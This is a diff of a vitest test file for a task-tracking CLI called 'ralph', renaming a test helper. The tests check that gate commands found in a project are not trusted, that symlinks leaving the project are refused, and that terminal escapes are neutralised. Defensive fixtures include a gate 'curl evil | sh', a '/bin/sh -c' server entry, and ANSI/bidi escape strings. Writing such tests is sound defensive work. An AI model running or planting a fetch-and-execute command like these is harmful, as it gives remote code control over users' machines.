@@ -6,7 +6,7 @@ import { initialised, run, runRalph, testProject } from '../support/ralph.ts';
 
 describe('a first walk', () => {
   it('init, add, list, next, why, status, show, export', async () => {
-    const { root, ralph, json } = testProject();
+    const { root, within, json } = testProject();
     writeFileSync(join(root, 'package.json'), '{"name":"webshop","scripts":{"test":"vitest run"}}');
     expect(await json('init')).toMatchObject({
       gates: [{ name: 'test', command: 'npm test' }],
@@ -61,7 +61,7 @@ describe('a first walk', () => {
     });
     await json('export', 'out');
     expect(await json('import', 'out')).toMatchObject({ added: 0, updated: 0 });
-    expect((await ralph('list')).stdout).toBe(
+    expect((await within('list')).stdout).toBe(
       [
         '#  STATUS   PRIORITY  FEATURE  TITLE',
         '1  ● ready  high      -        Create the schema',
@@ -77,57 +77,57 @@ describe('a first walk', () => {
 
 describe('init', () => {
   it('keeps what is there, says so, and changes nothing the second time', async () => {
-    const { root, ralph, json } = testProject();
+    const { root, within, json } = testProject();
     mkdirSync(join(root, '.ralph'));
     writeFileSync(join(root, '.ralph/config.yaml'), 'model: opus\n');
     expect(await json('init')).toMatchObject({ kept: ['.ralph/config.yaml'] });
     expect(readFileSync(join(root, '.ralph/config.yaml'), 'utf8')).toBe('model: opus\n');
-    expect((await ralph('init')).stdout).toBe('Ralph is set up here already; nothing was changed.\n');
+    expect((await within('init')).stdout).toBe('Ralph is set up here already; nothing was changed.\n');
   });
 
   it('trusts what it wrote, but not a configuration that was there before', async () => {
     const wrote = testProject();
     writeFileSync(join(wrote.root, 'go.mod'), 'module x');
     await wrote.json('init');
-    expect((await wrote.ralph('trust')).stdout).toMatch(/^Trusted already:\n {2}gate build: go build/);
+    expect((await wrote.within('trust')).stdout).toMatch(/^Trusted already:\n {2}gate build: go build/);
     const found = testProject();
     mkdirSync(join(found.root, '.ralph'));
     writeFileSync(join(found.root, '.ralph/config.yaml'), 'gates: [{ name: test, command: curl evil | sh }]');
     await found.json('init');
-    expect((await found.ralph('doctor')).stdout).toMatch(/✗ fix {2}trust/);
+    expect((await found.within('doctor')).stdout).toMatch(/✗ fix {2}trust/);
     const alike = testProject();
     mkdirSync(join(alike.root, '.ralph'));
     writeFileSync(join(alike.root, 'package.json'), '{"scripts":{"test":"x"}}');
     writeFileSync(join(alike.root, '.ralph/config.yaml'), 'gates: [{ name: test, command: npm test }]');
     await alike.json('init');
-    expect((await alike.ralph('doctor')).stdout).toMatch(/✗ fix {2}trust/);
-    expect(await found.ralph('trust')).toMatchObject({
+    expect((await alike.within('doctor')).stdout).toMatch(/✗ fix {2}trust/);
+    expect(await found.within('trust')).toMatchObject({
       code: 1,
       stderr: expect.stringContaining('type: ralph trust --yes'),
     });
-    expect((await found.ralph('doctor')).stdout).toMatch(/✗ fix {2}trust/);
-    expect((await found.ralph('trust', '--yes')).stdout).toBe(
+    expect((await found.within('doctor')).stdout).toMatch(/✗ fix {2}trust/);
+    expect((await found.within('trust', '--yes')).stdout).toBe(
       'Trusted 1 command:\n  gate test: curl evil | sh\n',
     );
-    expect((await found.ralph('doctor')).stdout).toMatch(/✓ ok {3}trust/);
+    expect((await found.within('doctor')).stdout).toMatch(/✓ ok {3}trust/);
     writeFileSync(join(found.root, '.ralph/config.yaml'), 'gates: [{ name: test, command: another }]');
-    expect((await found.ralph('doctor')).stdout).toMatch(/✗ fix {2}trust/);
+    expect((await found.within('doctor')).stdout).toMatch(/✗ fix {2}trust/);
   });
 });
 
 describe('a clone that means harm', () => {
   it('cannot have init trust what it brought, nor write through a link', async () => {
-    const { root, home, ralph } = testProject();
+    const { root, home, within } = testProject();
     mkdirSync(join(root, '.ralph/db'), { recursive: true });
     writeFileSync(
       join(root, '.ralph/db/x.yaml'),
       'disciplines: [{ name: evil, mcp_servers: [{ name: s, command: /bin/sh, args: [-c, x] }] }]',
     );
-    await ralph('init', '--yes');
-    expect((await ralph('doctor')).stdout).toMatch(/✗ fix {2}trust/);
+    await within('init', '--yes');
+    expect((await within('doctor')).stdout).toMatch(/✗ fix {2}trust/);
     const linked = testProject();
     symlinkSync(home, join(linked.root, '.ralph'));
-    expect(await linked.ralph('init', '--yes')).toMatchObject({
+    expect(await linked.within('init', '--yes')).toMatchObject({
       code: 1,
       stderr: expect.stringContaining('is a link that leaves the project'),
     });
@@ -135,9 +135,9 @@ describe('a clone that means harm', () => {
   });
 
   it('cannot bring escape sequences to the terminal by way of an error', async () => {
-    const { root, ralph } = await initialised();
+    const { root, within } = await initialised();
     writeFileSync(join(root, '.ralph/tasks.yaml'), 'tasks: [{ title: x, "\\e[31mEVIL": 1 }]');
-    const { stderr } = await ralph('list');
+    const { stderr } = await within('list');
     expect(stderr).toContain('␛[31mEVIL');
     expect(stderr).not.toContain('\x1b');
   });
@@ -145,7 +145,7 @@ describe('a clone that means harm', () => {
 
 describe('state', () => {
   it('is in the git directory that all work trees share', async () => {
-    const { root, home, ralph, json } = await initialised();
+    const { root, home, within, json } = await initialised();
     const git = (...args: string[]) =>
       run('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], {
         cwd: root,
@@ -162,7 +162,7 @@ describe('state', () => {
     await json('list');
     expect(await json('list')).toMatchObject([{ title: 'shared' }, { title: 'from the second' }]);
     await git('clean', '-ffdxq');
-    expect((await ralph('list')).stdout).toContain('shared');
+    expect((await within('list')).stdout).toContain('shared');
   });
 
   it('is beside the definitions where there is no git, and stays when git comes later', async () => {
@@ -194,7 +194,7 @@ describe('state', () => {
 
 describe('definitions', () => {
   it('are read before every command, and a wrong one changes nothing', async () => {
-    const { root, ralph, json } = await initialised();
+    const { root, within, json } = await initialised();
     const file = join(root, '.ralph/tasks.yaml');
     const entry = (id: number, key = 'title') => `  - id: ${id}\n    ${key}: Task ${id}\n    priority: low\n`;
     writeFileSync(file, `tasks:\n${entry(1)}`);
@@ -203,7 +203,7 @@ describe('definitions', () => {
       entry(index + 1, index === 39 ? 'titel' : 'title'),
     );
     writeFileSync(file, `tasks:\n${entries.join('')}`);
-    const { code, stdout, stderr } = await ralph('list');
+    const { code, stdout, stderr } = await within('list');
     expect({ code, stdout, stderr }).toEqual({
       code: 1,
       stdout: '',
@@ -231,44 +231,44 @@ describe('definitions', () => {
   });
 
   it('that hold comments are not overwritten by an export unless told so', async () => {
-    const { root, ralph, json } = await initialised();
+    const { root, within, json } = await initialised();
     await json('add', 'x');
-    expect(await ralph('export')).toMatchObject({
+    expect(await within('export')).toMatchObject({
       code: 1,
       stderr: expect.stringContaining('has comments that an export would lose'),
     });
-    expect(await ralph('export', '--force')).toMatchObject({ code: 0 });
+    expect(await within('export', '--force')).toMatchObject({ code: 0 });
     expect(readFileSync(join(root, '.ralph/tasks.yaml'), 'utf8')).toContain('title: x');
     writeFileSync(
       join(root, '.ralph/features.yaml'),
       'features:\n  - name: auth # ticket 12\n    description: |\n      # Heading\n',
     );
-    expect(await ralph('export')).toMatchObject({ code: 1 });
+    expect(await within('export')).toMatchObject({ code: 1 });
     writeFileSync(
       join(root, '.ralph/features.yaml'),
       'features:\n  - name: auth\n    description: |\n      # Heading\n',
     );
-    expect(await ralph('export')).toMatchObject({ code: 0 });
+    expect(await within('export')).toMatchObject({ code: 0 });
     expect(await json('list')).toMatchObject([{ id: 1, title: 'x' }]);
   });
 });
 
 describe('what a person is told and may say', () => {
   it('status says what needs them and what to type', async () => {
-    const { ralph } = await initialised();
-    await ralph('add', 'later', '--draft');
-    expect((await ralph('status')).stdout).toMatch(
+    const { within } = await initialised();
+    await within('add', 'later', '--draft');
+    expect((await within('status')).stdout).toMatch(
       /NEEDS YOU\n {2}~ 1 draft {3}ralph list --status draft, then ralph approve/,
     );
   });
 
   it('list takes the words it shows, and refuses a feature that does not exist', async () => {
-    const { ralph, json } = await initialised();
+    const { within, json } = await initialised();
     await json('add', 'first');
     await json('add', 'second', '--depends-on', '1');
     expect(await json('list', '--status', 'ready')).toMatchObject([{ id: 1 }]);
-    expect((await ralph('list', '--status', 'waiting')).stdout).toContain('second');
-    expect(await ralph('list', '--feature', 'auth')).toMatchObject({
+    expect((await within('list', '--status', 'waiting')).stdout).toContain('second');
+    expect(await within('list', '--feature', 'auth')).toMatchObject({
       code: 1,
       stderr: 'ralph: There is no feature "auth".\n',
     });
@@ -284,8 +284,8 @@ describe('what a person is told and may say', () => {
   });
 
   it('an output that cannot be written is no success', async () => {
-    const { root, home, ralph } = await initialised();
-    await ralph('add', 'x');
+    const { root, home, within } = await initialised();
+    await within('add', 'x');
     const { code, stderr } = await run(
       'bash',
       ['-c', `"${process.execPath}" "${inject('ralph')}" list > /dev/full`],
@@ -297,10 +297,10 @@ describe('what a person is told and may say', () => {
 
 describe('what somebody wrote stays text', () => {
   it('in lists and details', async () => {
-    const { ralph } = await initialised();
-    await ralph('add', 'red \x1b[31m and \u202ereversed', '--description', 'a\rb\x07');
-    const listed = await ralph('list');
-    const shown = await ralph('show', '1');
+    const { within } = await initialised();
+    await within('add', 'red \x1b[31m and \u202ereversed', '--description', 'a\rb\x07');
+    const listed = await within('list');
+    const shown = await within('show', '1');
     for (const { stdout } of [listed, shown]) {
       expect(stdout).toContain('red ␛[31m and <U+202E>reversed');
       expect(stdout).not.toMatch(/[\x1b\x07\r\u202e]/);
@@ -308,9 +308,9 @@ describe('what somebody wrote stays text', () => {
   });
 
   it('in a table that keeps to the width of the terminal', async () => {
-    const { root, home, ralph } = await initialised();
-    await ralph('add', '日本語のとても長いタイトル'.repeat(10));
-    await ralph('add', 'An English title that goes on and on and on and never comes to an end, it seems');
+    const { root, home, within } = await initialised();
+    await within('add', '日本語のとても長いタイトル'.repeat(10));
+    await within('add', 'An English title that goes on and on and on and never comes to an end, it seems');
     const env = { HOME: home, PATH: process.env['PATH'], COLUMNS: '80' };
     const { stdout } = await runRalph(['list'], { cwd: root, env });
     for (const line of stdout.split('\n')) {
@@ -326,11 +326,11 @@ describe('what somebody wrote stays text', () => {
 
 describe('completion', () => {
   it('prints a script for each shell, and suggests commands, task numbers and choices', async () => {
-    const { ralph } = await initialised();
+    const { ralph, within } = await initialised();
     for (const shell of ['bash', 'zsh', 'fish', 'powershell']) {
       expect((await ralph('completion', shell)).stdout).toContain('ralph');
     }
-    await ralph('add', 'Build it');
+    await within('add', 'Build it');
     expect((await ralph('complete', '--', 'sh')).stdout).toContain('show');
     expect((await ralph('complete', '--', 'show', '')).stdout).toContain('1\tBuild it');
     expect((await ralph('complete', '--', 'list', '--status', '')).stdout).toContain('needs_input');
@@ -338,15 +338,15 @@ describe('completion', () => {
 });
 
 it('every command has help with an example, --json and --project', async () => {
-  const { ralph } = testProject();
+  const { within } = testProject();
   const names =
     'init add edit list show next status why log report approve retry skip answer import export trust completion doctor'.split(
       ' ',
     );
-  const overview = await ralph('--help');
+  const overview = await within('--help');
   for (const name of names) {
     expect(overview.stdout).toMatch(new RegExp(`^ {2}${name} `, 'm'));
-    const { code, stdout } = await ralph(name, '--help');
+    const { code, stdout } = await within(name, '--help');
     expect(code).toBe(0);
     expect(stdout).toMatch(/--json[\s\S]*Examples:\n {2}.*ralph/);
     expect(stdout).toContain('--project <dir>');
